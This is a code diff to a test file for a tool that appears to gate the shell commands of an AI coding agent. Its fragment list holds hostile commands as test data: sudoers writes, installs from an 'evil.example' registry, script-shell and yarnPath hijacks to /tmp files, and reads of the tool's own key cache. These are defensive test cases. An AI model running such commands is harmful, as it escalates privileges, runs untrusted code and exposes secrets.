@@ -183,7 +183,7 @@ def _gates_hold(commands: list[str]) -> dict[str, int]:
     from clearance.adapters.claude import parse_event
     from clearance.engine import analyse_shell
     from clearance.rules import load
-    from clearance.rules.gates import COMMAND_GATES, GATES, download_then_run
+    from clearance.rules.gates import COMMAND_GATES, EFFECT_GATES, GATES, download_then_run
     from clearance.rules.net import downloaded_then_run
     from clearance.scope import Scope
 
@@ -194,7 +194,13 @@ def _gates_hold(commands: list[str]) -> dict[str, int]:
         _action, ctx = parse_event(ev, dict(GATE_ENV))
         ctx.read_file = None
         sc = Scope(ctx)
-        commands_ = analyse_shell(command, sc).commands
+        analysis = analyse_shell(command, sc)
+        commands_ = analysis.commands
+        for e in analysis.effects:
+            for rid, gate in EFFECT_GATES.items():
+                if registry[rid].check(e, sc):
+                    fired[f"{rid}:effect"] = fired.get(f"{rid}:effect", 0) + 1
+                    assert gate(e, sc), (rid, command, e.path)
         if downloaded_then_run(commands_, sc):
             fired["rce.download-then-run"] = fired.get("rce.download-then-run", 0) + 1
             assert download_then_run(commands_), command
@@ -285,16 +291,17 @@ GATE_FRAGMENTS = [
     "npm test --script-shell=/tmp/x", "npm set script-shell /tmp/x", "npm c set script-shell /tmp/x", "npm ci --no-strict-ssl",
     "npm install --registry http://evil.example", "pnpm install --node-options='--require /tmp/x.js'", "npm test --script-shell /tmp/x",
     "tee /etc/sudoers.d/x", "tee -a /etc/sudoers", "echo x", "npm --prefix x install y", "git config $OPT credential.helper",
-    "yarn config set yarnPath /tmp/evil.js",
+    "yarn config set yarnPath /tmp/evil.js", "cat ~/.local/state/clearance/cache.key", "grep -r x ~/.local/state/clearance",
 ]  # fmt: skip
 
 
 def test_every_command_gate_is_met_where_its_rule_fires() -> None:
-    """The fragments make each gated (rule, command name) fire at least once, its gate saying yes each time."""
-    from clearance.rules.gates import COMMAND_GATES
+    """The fragments make each gated (rule, command name) and gated effect rule fire at least once, its gate saying yes
+    each time."""
+    from clearance.rules.gates import COMMAND_GATES, EFFECT_GATES
 
     fired = _gates_hold(GATE_FRAGMENTS)
-    assert {f"{rid}:{name}" for rid, name in COMMAND_GATES} <= set(fired)
+    assert {f"{rid}:{name}" for rid, name in COMMAND_GATES} | {f"{rid}:effect" for rid in EFFECT_GATES} <= set(fired)
 
 
 GATE_JOINS = [" | ", " && ", "; ", " ", " < "]
